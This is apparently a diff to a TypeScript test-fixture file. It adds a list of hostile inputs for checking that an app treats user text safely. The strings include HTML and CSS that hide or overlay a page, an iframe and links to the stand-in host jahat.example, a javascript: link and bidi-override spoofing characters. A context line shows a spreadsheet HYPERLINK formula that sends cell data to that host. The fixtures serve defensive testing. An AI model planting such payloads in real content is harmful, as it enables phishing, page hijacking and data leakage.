@@ -16,6 +16,20 @@ export const scriptTexts: readonly string[] = [
   `&lt;script&gt;window.${MARK}=1&lt;/script&gt;`,
 ]
 
+/** What would break a page, lead away from it or load something where a text is taken for markup or style. */
+export const layoutTexts: readonly string[] = [
+  'W'.repeat(190),
+  `https://jahat.example/${'a'.repeat(150)}`,
+  'Kopi \u202Eallemuc\u202C Belu',
+  '\u202E\u2066Tenun Ikat',
+  '</main></body><style>*{display:none}</style>',
+  '<a href="https://jahat.example" style="position:fixed;inset:0">klik</a>',
+  '<iframe src="https://jahat.example"></iframe>',
+  '[klik](javascript:alert(1))',
+  'x; background: url(https://jahat.example/a.png)',
+  'Z\u0351\u036b\u0353\u036a\u0302\u036b\u033d\u034f\u0334'.repeat(12),
+]
+
 /** What spreadsheets take for a formula. */
 export const formulaTexts: readonly string[] = [
   `=HYPERLINK("http://jahat.example/?"&A1,"klik")`,
